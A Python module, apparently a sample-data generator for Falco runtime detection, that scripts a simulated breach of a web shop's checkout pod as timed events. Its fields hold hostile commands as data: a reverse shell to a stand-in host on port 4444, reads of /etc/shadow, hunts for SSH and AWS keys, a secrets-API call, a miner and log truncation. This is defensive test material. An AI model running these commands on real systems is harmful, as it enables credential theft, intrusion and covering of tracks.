"""The incident: how somebody comes in through a web shop's pod, step by step."""

from __future__ import annotations

from dataclasses import dataclass

from toolkit.falco.sample import vocabulary as v
from toolkit.falco.sample.cluster import CHECKOUT, CONTROL_PLANE, WORKER_2
from toolkit.falco.sample.vocabulary import Activity, Fields, Phrase

_HIDDEN = "/home/app/.x/"
_THEIRS = "203.0.113.66:4444"


@dataclass(frozen=True, slots=True)
class Step:
    """``events`` times the activity, from ``start`` to ``end`` minutes after the incident began."""

    start: int
    end: int
    events: int
    activity: Activity


def _step(start: int, end: int, events: int, phrase: Phrase, fields: Fields) -> Step:
    return Step(start, end, events, Activity(phrase, fields, (WORKER_2,), 0, workload=CHECKOUT))


def _audit(start: int, end: int, events: int, phrase: Phrase, fields: Fields) -> Step:
    return Step(start, end, events, Activity(phrase, fields, (CONTROL_PLANE,), 0, audit=True))


_TTY = v.process("bash", "bash -i", parent="python3", path="/bin/bash", tty=34816, flags=v.LOWER)
_BACK = (
    v.ancestors("sh", "java", "containerd-shim")
    | v.connection(f"10.42.2.61:{{port}}->{_THEIRS}", 4444)
    | v.process("python3", "python3 -c import socket,os,pty", parent="sh", event="dup2")
)
_SHADOW = (
    v.opened("/etc/shadow")
    | v.ancestors("python3", "sh", "java")
    | v.process("cat", "cat /etc/shadow", parent="bash", event="openat")
)
_FIND = v.process("find", "find / -name id_rsa", parent="bash", flags=v.LOWER)
_GREP = v.process("grep", "grep -r aws_access_key_id /home /root", parent="bash", flags=v.LOWER) | {
    "proc.pcmdline": "bash -i",
    "proc.cwd": "/",
}
_CURL = v.connection(f"10.42.2.61:{{port}}->{v.API_SERVER}", 443) | v.process(
    "curl", "curl -sk https://10.43.0.1/api/v1/secrets", parent="bash", event="connect"
)
_MEMORY = v.process(
    "3", "3", parent="bash", path="memfd:kit", flags="EXE_WRITABLE|EXE_FROM_MEMFD"
) | {"proc.cwd": _HIDDEN, "evt.res": "SUCCESS"}
_MINER = v.process(
    "kworkerds",
    f"./kworkerds -o {_THEIRS}",
    parent="bash",
    path=f"{_HIDDEN}kworkerds",
    flags=v.UPPER,
) | {"proc.exe": "./kworkerds", "proc.cwd": _HIDDEN}
_TRUNCATE = v.opened("/var/log/checkout.log") | v.process(
    "truncate", "truncate -s 0 /var/log/checkout.log", parent="bash", event="openat"
)
_ACCOUNT = "system:serviceaccount:shop:checkout"

STEPS: tuple[Step, ...] = (
    _step(0, 6, 9, v.SHELL, v.shell("id; uname -a", "java", "java -jar checkout.jar")),
    _step(5, 11, 4, v.REDIRECT, _BACK),
    _step(8, 80, 46, v.TERMINAL, _TTY),
    _step(14, 40, 11, v.SENSITIVE, _SHADOW),
    _step(18, 45, 14, v.KEYS, _FIND),
    _step(22, 50, 8, v.AWS, _GREP),
    _step(30, 70, 24, v.CONTACT, _CURL),
    _audit(34, 66, 12, v.SECRET, v.audit(_ACCOUNT, "db-{n}", "shop", "secrets", "200")),
    _step(58, 75, 5, v.MEMORY, _MEMORY),
    _step(62, 88, 3, v.NEW_BINARY, _MINER),
    _audit(68, 74, 2, v.ATTACH, v.exec_request(_ACCOUNT, "db-0", "shop", "psql")),
    _step(86, 94, 2, v.LOGS, _TRUNCATE),
)
